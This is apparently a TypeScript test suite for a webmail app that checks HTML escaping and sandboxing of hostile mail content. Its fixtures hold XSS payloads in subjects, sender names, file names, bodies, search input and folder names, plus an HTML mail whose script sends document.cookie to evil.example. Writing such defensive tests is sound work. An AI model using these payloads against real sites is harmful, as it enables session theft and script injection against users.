// Mail is written by strangers. Every place a message's text reaches a
// page is attacked here with markup that a browser would run if it were
// put in unescaped: the subject (plain and hidden in an encoded-word, so
// it only becomes markup after decoding), the sender's name, an
// attachment's file name (plain and RFC 2231), the body (including an
// attack on the link maker), the search box and a folder name. And an HTML
// mail with a script and a remote image, which must reach the browser only
// inside the sandboxed frame, under a policy that runs no script and loads
// no remote image until the reader asks.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csrfToken } from './browser.ts';
import { deliver, mailServer, startTestWebmail } from './helpers.ts';

const b64 = (text: string) => `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`;

/** No element a browser would run or load from: script, event handlers, javascript: links. */
function assertNoActiveMarkup(page: string, where: string): void {
  assert.doesNotMatch(page, /<script/i, `${where}: a script element`);
  assert.doesNotMatch(page, /<(img|svg|iframe|body)[^>]*\son\w+=/i, `${where}: an event handler attribute`);
  assert.doesNotMatch(page, /href="javascript:/i, `${where}: a javascript: link`);
  assert.doesNotMatch(page, /<img[^>]*src="?x/i, `${where}: an image from the mail`);
}

test('subject, sender, file names and text are escaped on the list, the message and the compose pages', async (t) => {
  const server = await mailServer(t);
  await deliver(server, [
    'From: "<img src=x onerror=alert(2)>" <evil@example.net>',
    `Reply-To: ${b64('<svg onload=alert(22)>')} <evil@example.net>`,
    'To: jjordan@localhost',
    'Subject: <script>alert("subject")</script>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hi <script>alert(5)</script>',
    'see https://example.org/"><script>alert(6)</script>',
    'and javascript:alert(7)',
    '--b',
    'Content-Type: text/plain; name="<svg onload=alert(3)>.txt"',
    'Content-Disposition: attachment; filename="<svg onload=alert(3)>.txt"',
    '',
    'file one',
    '--b',
    'Content-Type: application/octet-stream',
    "Content-Disposition: attachment; filename*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dalert(4)%3E.bin",
    '',
    'file two',
    '--b--',
    '',
  ].join('\r\n'));
  await deliver(server, `From: ${b64('<img src=x onerror=alert(12)>')} <evil@example.net>\r\nSubject: ${b64('"><img src=x onerror=alert(11)>')}\r\n\r\nhello\r\n`);
  const webmail = await startTestWebmail(t, server);
  const browser = await webmail.loggedIn();

  const list = (await browser.get('/mail?folder=INBOX')).text;
  assertNoActiveMarkup(list, 'the list');
  assert.match(list, /&lt;script&gt;alert\(&quot;subject&quot;\)&lt;\/script&gt;/, 'the subject, as text');
  assert.match(list, /&quot;&gt;&lt;img src=x onerror=alert\(11\)&gt;/, 'the encoded-word subject, decoded and then escaped');
  assert.match(list, /&lt;img src=x onerror=alert\(2\)&gt;/, 'the sender\'s name, as text');
  assert.match(list, /&lt;img src=x onerror=alert\(12\)&gt;/);

  const message = (await browser.get('/message?folder=INBOX&uid=1')).text;
  assertNoActiveMarkup(message, 'the message');
  assert.match(message, /<title>&lt;script&gt;alert\(&quot;subject&quot;\)&lt;\/script&gt; - Webmail<\/title>/);
  assert.match(message, /&lt;svg onload=alert\(22\)&gt;/, 'Reply-To name, as text');
  assert.match(message, /Hi &lt;script&gt;alert\(5\)&lt;\/script&gt;/);
  // The link maker stops at the quote: the rest stays text.
  assert.match(message, /<a href="https:\/\/example\.org\/" rel="noopener noreferrer" target="_blank">https:\/\/example\.org\/<\/a>&quot;&gt;&lt;script&gt;alert\(6\)/);
  assert.match(message, /and javascript:alert\(7\)/, 'not a link');
  assert.match(message, />&lt;svg onload=alert\(3\)&gt;\.txt<\/a>/, 'the file name, as text');
  assert.match(message, />&lt;img src=x onerror=alert\(4\)&gt;\.bin<\/a>/, 'the RFC 2231 file name, decoded and then escaped');

  // Downloads: the name only in the header, quoted and encoded; never shown as a page of ours.
  const download = await browser.get('/message/attachment?folder=INBOX&uid=1&part=2');
  assert.equal(download.headers['content-disposition'], `attachment; filename="<svg onload=alert(3)>.txt"; filename*=UTF-8''%3Csvg%20onload%3Dalert%283%29%3E.txt`);
  assert.match(String(download.headers['content-security-policy']), /sandbox/);

  for (const mode of ['reply', 'reply-all', 'forward']) {
    const compose = (await browser.get(`/compose?mode=${mode}&folder=INBOX&uid=1`)).text;
    assertNoActiveMarkup(compose, `compose (${mode})`);
    assert.match(compose, /&lt;script&gt;alert\(5\)&lt;\/script&gt;/, `${mode}: the quoted text, escaped inside the textarea`);
  }
});

test('the search box and folder names are escaped where they are shown again', async (t) => {
  const server = await mailServer(t);
  const webmail = await startTestWebmail(t, server);
  const browser = await webmail.loggedIn();
  const search = (await browser.get(`/mail?folder=INBOX&q=${encodeURIComponent('"><script>alert(8)</script>')}`)).text;
  assertNoActiveMarkup(search, 'search');
  assert.match(search, /value="&quot;&gt;&lt;script&gt;alert\(8\)&lt;\/script&gt;"/);
  const created = await browser.post('/folders/create', { _csrf: csrfToken(search), name: '<img src=x onerror=alert(9)>' });
  assert.equal(created.status, 303);
  for (const path of ['/folders', '/mail?folder=INBOX', `/mail?folder=${encodeURIComponent('<img src=x onerror=alert(9)>')}`]) {
    const page = (await browser.get(path)).text;
    assertNoActiveMarkup(page, path);
    assert.match(page, /&lt;img src=x onerror=alert\(9\)&gt;/, path);
  }
});

test('an HTML mail: its script and remote image reach the browser only in the sandboxed frame, under a policy that blocks both', async (t) => {
  const server = await mailServer(t);
  await deliver(server, [
    'From: news@example.net',
    'Subject: Newsletter',
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'The plain version.',
    '--alt',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body>',
    '<h1>News</h1><script>document.title="pwned"; fetch("https://evil.example/steal?c="+document.cookie)</script>',
    '<img src="http://127.0.0.1:9/tracker.png" alt="tracker"><a href="https://example.org/more">more</a>',
    '</body></html>',
    '--alt--',
    '',
  ].join('\r\n'));
  const webmail = await startTestWebmail(t, server);
  const browser = await webmail.loggedIn();

  const page = (await browser.get('/message?folder=INBOX&uid=1')).text;
  assertNoActiveMarkup(page, 'the message page');
  assert.doesNotMatch(page, /tracker\.png|evil\.example|<h1>News/, 'nothing of the HTML is in our page');
  const frame = /<iframe class="mail" src="([^"]+)" sandbox="([^"]*)"/.exec(page);
  assert.ok(frame, 'the HTML is shown in an iframe');
  assert.doesNotMatch(frame[2], /allow-scripts|allow-same-origin|allow-forms|allow-top-navigation/, 'sandboxed: no scripts, an opaque origin');
  assert.match(page, /Show remote images in this message/);
  assert.match(page, /Show the plain text/);

  const html = await browser.get(frame[1].replaceAll('&amp;', '&'));
  assert.equal(html.status, 200);
  const policy = String(html.headers['content-security-policy']);
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(policy, /script-src/, 'no script of any kind');
  assert.match(policy, /img-src data:(;|$)/, 'images only from inside the message');
  assert.match(policy, /sandbox/);
  assert.match(policy, /frame-ancestors 'self'/);
  assert.equal(html.headers['x-frame-options'], 'SAMEORIGIN');
  assert.match(html.text, /<base target="_blank">/);
  assert.doesNotMatch(html.text, /\shttp-equiv=/i, 'a refresh cannot take the frame away');

  // The reader asks for the images of this message: now, and only now, the policy lets them load.
  const withImages = await browser.get(`${frame[1].replaceAll('&amp;', '&')}&images=1`);
  assert.match(String(withImages.headers['content-security-policy']), /img-src data: https: http:/);
  assert.doesNotMatch(String(withImages.headers['content-security-policy']), /script-src/);
  assert.match((await browser.get('/message?folder=INBOX&uid=1&images=1')).text, /Remote images are shown\./);

  // Only a text/html part is ever served as HTML: the plain part, asked for as HTML, is refused.
  assert.equal((await browser.get('/message/html?folder=INBOX&uid=1&part=1')).status, 404);
  // The plain version, on request.
  assert.match((await browser.get('/message?folder=INBOX&uid=1&view=text')).text, /The plain version\./);
});
